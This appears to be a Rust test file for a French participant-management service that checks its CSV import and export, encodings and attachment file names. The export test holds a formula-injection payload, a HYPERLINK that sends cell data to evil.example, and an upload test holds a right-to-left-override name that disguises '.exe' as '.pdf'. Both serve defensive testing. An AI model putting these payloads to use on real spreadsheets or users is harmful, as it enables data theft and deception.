//! Attacks and careless files through the import, the exports and file names (issue 15,
//! items 9, 10, 15 and 16): formulas in the spreadsheet export, real extractions (Windows-1252,
//! 100 000 lines), an import that would rename staff or reveal another PLIE's accounts, file
//! names that lose their extension or reverse their text. Everything goes through
//! `parafe serve`: the API with a coordinateur's token, the pages with a session.

use crate::pack::{deposer_http, pdf_simple};
use crate::service::{participant_ref, Plie, Service, Smtp};
use reqwest::blocking::Client;
use reqwest::StatusCode;
use serde_json::Value;
use std::io::{Read, Write};
use std::time::Duration;

const EN_TETE: &str = "Identifiant;Civilité;Nom;Prénom;Date de naissance;Email;Téléphone;Code postal;Commune;Département;Email référent;Nom référent;Prénom référent;Opération;Prescripteur;Email prescripteur;Date d'entrée;RSA;Début CER;Date de sortie;Motif de sortie";

/// A session on the pages for `email`, through « mot de passe oublié » and the login form, as a
/// person would: the `Cookie` header to send.
fn session(service: &Service, smtp: &Smtp, email: &str) -> String {
    service.activer(smtp, email);
    service.session(email).cookie
}

/// A page (or file) of the screens, with a session.
fn page(service: &Service, cookie: &str, chemin: &str) -> (StatusCode, Vec<u8>) {
    let r = service
        .client
        .get(format!("{}{chemin}", service.url))
        .header("cookie", cookie)
        .send()
        .unwrap();
    (r.status(), r.bytes().unwrap().to_vec())
}

/// `POST /api/participants/import` with the file's bytes as they are and the given type.
fn importer(
    client: &Client,
    service: &Service,
    jeton: &str,
    type_contenu: Option<&str>,
    octets: Vec<u8>,
) -> (StatusCode, Value) {
    let mut requete = client
        .post(format!("{}/api/participants/import", service.url))
        .bearer_auth(jeton)
        .body(octets);
    if let Some(t) = type_contenu {
        requete = requete.header("content-type", t);
    }
    let r = requete.send().unwrap();
    let status = r.status();
    let texte = r.text().unwrap();
    let v = serde_json::from_str(&texte)
        .unwrap_or_else(|_| panic!("{status} : réponse qui n'est pas du JSON : « {texte} »"));
    (status, v)
}

/// Windows-1252, as a spreadsheet saves « CSV (séparateur : point-virgule) » (written here by
/// hand, independently of the service's decoder).
fn windows_1252(texte: &str) -> Vec<u8> {
    texte
        .chars()
        .map(|c| match c {
            '€' => 0x80,
            '’' => 0x92,
            'Œ' => 0x8C,
            'œ' => 0x9C,
            c if (c as u32) < 0x80 || (0xA0..=0xFF).contains(&(c as u32)) => c as u32 as u8,
            c => panic!("{c} hors de Windows-1252"),
        })
        .collect()
}

/// A refused import: `Content-Type`, bytes, status, words the French message must hold.
type Refus<'a> = (Option<&'a str>, Vec<u8>, StatusCode, &'a [&'a str]);

fn erreur(v: &Value) -> &str {
    v["erreur"]
        .as_str()
        .unwrap_or_else(|| panic!("pas de message d'erreur : {v}"))
}

fn nombre_de_participants(service: &Service, jeton: &str) -> usize {
    service.ok("GET", "/api/participants", jeton, None)["participants"]
        .as_array()
        .unwrap()
        .len()
}

#[test]
fn export_csv_des_participants_sans_formule_executable() {
    let Plie {
        dir: _dir,
        smtp,
        service,
        coordinateur,
        ..
    } = Plie::pret(None);
    // Cells an attacker (or a careless entry in the parcours software) starts with a formula.
    let piege = format!(
        "{EN_TETE}\nX-1;Madame;\"=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Benali\"\")\";+Samira;12/05/1988;;;34400;\"@SOMME(1;2)\";34;t.garnier@plie.fr;Garnier;Thomas;202500417;;;04/03/2025;Non;;01/10/2025;-1+1\n"
    );
    let (status, v) = service.importer(&coordinateur, &piege);
    assert_eq!(status, StatusCode::OK, "{v}");

    let cookie = session(&service, &smtp, "coord@plie.fr");
    let (status, octets) = page(&service, &cookie, "/accueil/participants.csv");
    assert_eq!(status, StatusCode::OK);
    let texte = String::from_utf8(octets).unwrap();
    let texte = texte
        .strip_prefix('\u{feff}')
        .expect("BOM UTF-8 pour Excel");
    let mut lecteur = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(texte.as_bytes());
    let entetes = lecteur.headers().unwrap().clone();
    let colonne = |nom: &str| entetes.iter().position(|h| h == nom).unwrap();
    let lignes: Vec<csv::StringRecord> = lecteur.records().map(Result::unwrap).collect();
    let ligne = |identifiant: &str| {
        lignes
            .iter()
            .find(|l| &l[colonne("Identifiant")] == identifiant)
            .unwrap_or_else(|| panic!("{identifiant} absent de l'export :\n{texte}"))
    };
    let x = ligne("X-1");
    // Every cell that a spreadsheet would run is taken as text (OWASP: a leading apostrophe),
    // and keeps the rest of what was typed.
    for (nom, attendu) in [
        (
            "Nom",
            "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Benali\")",
        ),
        ("Prénom", "'+Samira"),
        ("Commune", "'@SOMME(1;2)"),
        ("Motif de sortie", "'-1+1"),
    ] {
        assert_eq!(&x[colonne(nom)], attendu, "colonne {nom}");
    }
    for l in &lignes {
        for cellule in l.iter() {
            assert!(
                !cellule.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "cellule exécutable par un tableur : « {cellule} »"
            );
        }
    }
    // Ordinary cells are left as they are.
    let samira = ligne("P-2025-0412");
    assert_eq!(&samira[colonne("Nom")], "Benali");
    assert_eq!(&samira[colonne("Date d'entrée")], "04/03/2025");
}

#[test]
fn import_windows_1252_utf8_et_refus_en_francais() {
    let Plie {
        dir: _dir,
        service,
        coordinateur,
        ..
    } = Plie::pret(None);
    let client = &service.client;
    let fichier = format!(
        "{EN_TETE}\nW-1;Madame;Lefèvre-Œuvray;Hélène;12/05/1988;;;42000;Saint-Étienne;42;t.garnier@plie.fr;Garnier;Thomas;202500417;Mission locale d’Île-de-France;;04/03/2025;Non;;;\n"
    );
    let cp1252 = windows_1252(&fichier);
    assert!(std::str::from_utf8(&cp1252).is_err());

    // Detected, then declared in each usual way: the accents arrive intact, the headers are
    // recognised.
    for type_contenu in [
        None,
        Some("text/csv"),
        Some("text/csv; charset=windows-1252"),
        Some("text/csv;charset=\"ISO-8859-1\""),
        Some("application/vnd.ms-excel"),
    ] {
        let (status, v) = importer(
            client,
            &service,
            &coordinateur,
            type_contenu,
            cp1252.clone(),
        );
        assert_eq!(status, StatusCode::OK, "{type_contenu:?} : {v}");
        assert_eq!(v["participants"], 1, "{v}");
        let p = &service.ok(
            "GET",
            "/api/participants?recherche=Lef",
            &coordinateur,
            None,
        )["participants"][0];
        assert_eq!(p["nom"], "Lefèvre-Œuvray", "{type_contenu:?}");
        assert_eq!(p["prenom"], "Hélène");
        assert_eq!(p["commune"], "Saint-Étienne");
        assert_eq!(p["prescripteur"], "Mission locale d’Île-de-France");
    }
    // UTF-8, with or without BOM, declared or not.
    let autre = fichier.replace("W-1;", "W-2;").replace("Hélène", "Zoé");
    for (type_contenu, octets) in [
        (
            Some("text/csv; charset=utf-8"),
            [b"\xEF\xBB\xBF".as_slice(), autre.as_bytes()].concat(),
        ),
        (Some("text/csv"), autre.as_bytes().to_vec()),
    ] {
        let (status, v) = importer(client, &service, &coordinateur, type_contenu, octets);
        assert_eq!(status, StatusCode::OK, "{v}");
    }
    assert_eq!(nombre_de_participants(&service, &coordinateur), 4);

    // Refusals: French JSON naming what to do, nothing imported.
    let mut utf16 = vec![0xFF, 0xFE];
    utf16.extend(autre.encode_utf16().flat_map(u16::to_le_bytes));
    let mut xlsx = b"PK\x03\x04\x14\x00\x06\x00\x08\x00".to_vec();
    xlsx.extend(b"[Content_Types].xml");
    let cas: [Refus; 6] = [
        // Declared UTF-8, but saved in Windows-1252: the line and the way out.
        (
            Some("text/csv; charset=utf-8"),
            cp1252.clone(),
            StatusCode::UNPROCESSABLE_ENTITY,
            &["ligne 1", "UTF-8", "windows-1252"],
        ),
        (
            Some("text/csv; charset=shift_jis"),
            cp1252.clone(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            &["shift_jis", "UTF-8", "Windows-1252"],
        ),
        (
            Some("application/json"),
            autre.as_bytes().to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            &["text/csv"],
        ),
        (
            Some("multipart/form-data; boundary=x"),
            autre.as_bytes().to_vec(),
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
            &["text/csv"],
        ),
        (
            Some("text/csv"),
            utf16,
            StatusCode::UNPROCESSABLE_ENTITY,
            &["UTF-16", "CSV UTF-8"],
        ),
        (
            None,
            xlsx,
            StatusCode::UNPROCESSABLE_ENTITY,
            &["classeur", "CSV"],
        ),
    ];
    for (type_contenu, octets, attendu, mots) in cas {
        let (status, v) = importer(client, &service, &coordinateur, type_contenu, octets);
        assert_eq!(status, attendu, "{type_contenu:?} : {v}");
        for mot in mots {
            assert!(
                erreur(&v).contains(mot),
                "{type_contenu:?} : « {mot} » absent de {v}"
            );
        }
    }
    assert_eq!(nombre_de_participants(&service, &coordinateur), 4);

    // Past the limit, said in French before reading the body (the size is declared).
    let adresse = service.url.trim_start_matches("http://").to_owned();
    let mut flux = std::net::TcpStream::connect(&adresse).unwrap();
    flux.set_read_timeout(Some(Duration::from_secs(30)))
        .unwrap();
    write!(
        flux,
        "POST /api/participants/import HTTP/1.1\r\nHost: {adresse}\r\nAuthorization: Bearer {coordinateur}\r\nContent-Type: text/csv\r\nContent-Length: 500000000\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut reponse = Vec::new();
    flux.read_to_end(&mut reponse)
        .expect("réponse avant l'envoi du corps");
    let reponse = String::from_utf8(reponse).unwrap();
    assert!(reponse.starts_with("HTTP/1.1 413"), "{reponse}");
    let (_, corps) = reponse.split_once("\r\n\r\n").unwrap();
    let v: Value = serde_json::from_str(corps).unwrap_or_else(|_| panic!("{reponse}"));
    assert!(erreur(&v).contains("Mo"), "{v}");
}

#[test]
fn import_de_100_000_participants_windows_1252_de_16_mo() {
    let Plie {
        dir: _dir,
        service,
        coordinateur,
        ..
    } = Plie::pret(None);
    let mut texte = String::from(EN_TETE);
    texte.push('\n');
    for i in 0..100_000 {
        texte.push_str(&format!(
            "V-{i:06};Madame;Lefèvre;Hélène;12/05/1988;h.lefevre.{i:06}@exemple.fr;06{i:08};34400;Saint-Étienne;34;ref-{:02}@plie.fr;Garnier;Thérèse;202500417;France Travail;;04/03/2025;Non;;;\n",
            i % 50
        ));
    }
    let octets = windows_1252(&texte);
    assert!(octets.len() >= 16_000_000, "{} octets", octets.len());
    // The import of a real extraction takes a while in a debug build: a patient client.
    let client = Client::builder()
        .timeout(Duration::from_secs(600))
        .build()
        .unwrap();
    let (status, v) = importer(&client, &service, &coordinateur, Some("text/csv"), octets);
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["participants"], 100_000, "{v}");
    assert_eq!(v["referents"], 50, "{v}");
    let p = &service.ok(
        "GET",
        "/api/participants?recherche=V-099999",
        &coordinateur,
        None,
    )["participants"][0];
    assert_eq!(p["prenom"], "Hélène");
    assert_eq!(p["commune"], "Saint-Étienne");
}

/// The participants found by a search on their identifier.
fn trouves(service: &Service, jeton: &str, identifiant: &str) -> Vec<Value> {
    service.ok(
        "GET",
        &format!("/api/participants?recherche={identifiant}"),
        jeton,
        None,
    )["participants"]
        .as_array()
        .unwrap()
        .clone()
}

#[test]
fn une_faute_apres_des_milliers_de_lignes_deja_ecrites_n_en_laisse_aucune() {
    // The import writes the lines it has checked while it reads the next ones (by lots of
    // 16 384): a fault found late must take back everything written before it.
    let Plie {
        dir: _dir,
        service,
        coordinateur,
        ..
    } = Plie::pret(None);
    service.compte("assistant@plie.fr", "assistant", Some("plie-test"));
    let fichier = |commune: &str, faute: Option<(usize, &str)>| {
        let mut texte = format!("{EN_TETE}\n");
        for i in 0..40_000 {
            let mut email_referent = format!("ref-{:02}@plie.fr", i % 20);
            let mut naissance = "12/05/1988".to_owned();
            match faute {
                Some((ligne, "date")) if ligne == i + 2 => naissance = "31/02/1988".into(),
                Some((ligne, "referent")) if ligne == i + 2 => {
                    email_referent = "assistant@plie.fr".into()
                }
                _ => {}
            }
            texte.push_str(&format!(
                "X-{i:06};Madame;Roux;Claire;{naissance};;;34000;{commune};34;{email_referent};Garnier;Thérèse;202500417;;;04/03/2025;Non;;;\n"
            ));
        }
        texte
    };
    for (faute, message) in [
        ((40_001, "date"), "ligne 40001 (Date de naissance)"),
        ((36_000, "referent"), "ligne 36000 (Email référent)"),
    ] {
        let (status, v) = service.importer(&coordinateur, &fichier("Montpellier", Some(faute)));
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{v}");
        assert!(erreur(&v).contains(message), "{v}");
        for identifiant in ["X-000000", "X-035997", "X-039999"] {
            assert!(
                trouves(&service, &coordinateur, identifiant).is_empty(),
                "{identifiant} écrit malgré la faute {faute:?}"
            );
        }
    }
    // The whole file, then again with every line changed: created, then updated in place.
    for commune in ["Montpellier", "Sète"] {
        let (status, v) = service.importer(&coordinateur, &fichier(commune, None));
        assert_eq!(status, StatusCode::OK, "{v}");
        assert_eq!(v["participants"], 40_000, "{v}");
        for identifiant in ["X-000000", "X-039999"] {
            let p = trouves(&service, &coordinateur, identifiant);
            assert_eq!(p.len(), 1, "{identifiant} : {p:?}");
            assert_eq!(p[0]["commune"], commune, "{identifiant}");
        }
    }
}

#[test]
fn l_import_ne_cree_et_ne_modifie_que_des_referents_de_son_plie() {
    let Plie {
        dir: _dir,
        smtp,
        service,
        coordinateur,
        ..
    } = Plie::pret(None);
    service.compte("admin@plie.fr", "admin", Some("plie-test"));
    service.compte("assistant@plie.fr", "assistant", Some("plie-test"));
    service.compte("ref@autre-plie.fr", "referent", Some("autre-plie"));
    let ligne = |identifiant: &str, email: &str, nom: &str| {
        format!("{identifiant};Madame;Roux;Claire;03/03/1990;;;34000;Montpellier;34;{email};{nom};Jack;202500417;;;10/02/2025;Non;;;")
    };
    for (email, nom) in [
        ("admin@plie.fr", "Pirate"),
        ("ADMIN@plie.fr", "Pirate"),
        ("assistant@plie.fr", "Pirate"),
        ("coord@plie.fr", "Pirate"),
        ("ref@autre-plie.fr", "Pirate"),
    ] {
        // A good line first: all or nothing.
        let fichier = format!(
            "{EN_TETE}\n{}\n{}\n",
            ligne("R-1", "m.lefort@plie.fr", "Lefort"),
            ligne("R-2", email, nom)
        );
        let (status, v) = service.importer(&coordinateur, &fichier);
        assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY, "{email} : {v}");
        let message = erreur(&v);
        assert!(
            message.contains("ligne 3 (Email référent)")
                && message.contains("ne peut pas être utilisée pour un référent de ce PLIE"),
            "{email} : {message}"
        );
        // Nothing about whose account it is, nor where.
        for indiscret in [
            "autre PLIE",
            "autre-plie",
            "admin",
            "coordinateur",
            "assistant",
        ] {
            assert!(
                !message
                    .replace(&email.to_lowercase(), "")
                    .contains(indiscret),
                "{email} : « {indiscret} » dans {message}"
            );
        }
    }
    assert_eq!(nombre_de_participants(&service, &coordinateur), 2);

    // The PLIE's own référents are created and updated by the import.
    let fichier = format!(
        "{EN_TETE}\n{}\n{}\n",
        ligne("R-1", "m.lefort@plie.fr", "Lefort"),
        ligne("R-2", "t.garnier@plie.fr", "Garnier-Martin")
    );
    let (status, v) = service.importer(&coordinateur, &fichier);
    assert_eq!(status, StatusCode::OK, "{v}");
    assert_eq!(v["referents"], 2, "{v}");

    // Seen by the administrator (names in capitals): no account renamed but the référents.
    let cookie = session(&service, &smtp, "admin@plie.fr");
    let (status, octets) = page(&service, &cookie, "/admin/comptes");
    assert_eq!(status, StatusCode::OK);
    let comptes = String::from_utf8(octets).unwrap();
    assert!(!comptes.to_uppercase().contains("PIRATE"), "{comptes}");
    assert!(comptes.contains("GARNIER-MARTIN"), "{comptes}");
    assert!(comptes.contains("LEFORT"), "{comptes}");
}

#[test]
fn noms_de_fichiers_des_justificatifs_gardent_leur_extension_sans_caracteres_invisibles() {
    let Plie {
        dir: _dir,
        service,
        referent,
        ..
    } = Plie::pret(None);
    let samira = participant_ref(&service, &referent, "Benali");
    let champs = [
        ("participant", samira.as_str()),
        ("genre", "contrat-travail"),
        ("date_piece", "2025-09-01"),
    ];
    let cas = [
        // 300 characters (600 bytes): cut, extension kept.
        (format!("{}.pdf", "é".repeat(296)), None),
        // Right-to-left override (« …fdp.exe » shown as « …exe.pdf »), isolates, marks,
        // zero-width characters: taken out.
        (
            "bulletin-\u{202E}fdp.exe-\u{2067}juin\u{2069}\u{200F}\u{200B}\u{FEFF}.pdf".to_owned(),
            Some("bulletin-fdp.exe-juin.pdf"),
        ),
    ];
    for (i, (nom, attendu)) in cas.into_iter().enumerate() {
        let pdf = pdf_simple(&format!("Contrat de travail {i}"), None);
        let (status, v) =
            deposer_http(&service, &referent, &champs, (nom.as_str(), pdf.as_slice()));
        assert_eq!(status, StatusCode::CREATED, "{nom} : {v}");
        let sha = v["justificatif"]["sha256"].as_str().unwrap().to_owned();
        let dossier = service.ok(
            "GET",
            &format!("/api/participants/{samira}/justificatifs"),
            &referent,
            None,
        );
        let garde = dossier["participant"]["pieces"]
            .as_array()
            .unwrap()
            .iter()
            .find(|p| p["sha256"] == sha.as_str())
            .and_then(|p| p["nom_fichier"].as_str())
            .unwrap_or_else(|| panic!("pièce absente : {dossier}"))
            .to_owned();
        match attendu {
            Some(a) => assert_eq!(garde, a),
            None => {
                assert!(garde.ends_with(".pdf"), "{garde}");
                assert!(garde.chars().count() <= 200, "{garde}");
                assert!(garde.starts_with("éééé"), "{garde}");
            }
        }
        // The download gives the same name.
        let id = v["justificatif"]["id"].as_i64().unwrap();
        let r = service
            .client
            .get(format!("{}/api/justificatifs/{id}", service.url))
            .bearer_auth(&referent)
            .send()
            .unwrap();
        let disposition = r.headers()["content-disposition"].to_str().unwrap();
        assert!(disposition.ends_with(".pdf"), "{disposition}");
        assert!(!disposition.contains("%E2%80%AE"), "{disposition}");
    }
}

/// Two writers on the same SQLite file (the service's import, and `parafe comptes ajouter` or
/// the outbox on another connection): a transaction that reads, then writes after the other
/// committed, failed at once with SQLITE_BUSY_SNAPSHOT (« stockage indisponible », 503) had it
/// begun deferred; begun by `db::ecriture`, the other writer waits for it and both land.
#[test]
fn deux_ecrivains_sur_la_meme_base_sqlite_passent_l_un_apres_l_autre() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("donnees");
    std::fs::create_dir_all(&data).unwrap();
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(async {
        let service = parafe::db::open(&Default::default(), &data).await.unwrap();
        let autre = parafe::db::open(&Default::default(), &data).await.unwrap();
        let mut tx = parafe::db::ecriture(&service).await.unwrap();
        let avant: i64 = sqlx::query_scalar("SELECT count(*) FROM plie")
            .fetch_one(&mut *tx)
            .await
            .unwrap();
        // The other writer, meanwhile: it must wait rather than slip in between.
        let ecrivain = tokio::spawn(async move {
            sqlx::query("INSERT INTO plie (id, nom, cree_le) VALUES ('autre', 'Autre', '2025-06-02T08:00:00Z')")
                .execute(&autre)
                .await
        });
        tokio::time::sleep(Duration::from_millis(400)).await;
        sqlx::query("INSERT INTO plie (id, nom, cree_le) VALUES ('import', 'Import', '2025-06-02T08:00:00Z')")
            .execute(&mut *tx)
            .await
            .expect("l'écriture de la transaction qui a lu d'abord");
        tx.commit().await.unwrap();
        ecrivain.await.unwrap().expect("l'autre écrivain, après elle");
        let apres: i64 = sqlx::query_scalar("SELECT count(*) FROM plie")
            .fetch_one(&service)
            .await
            .unwrap();
        assert_eq!(apres, avant + 2);
    });
}
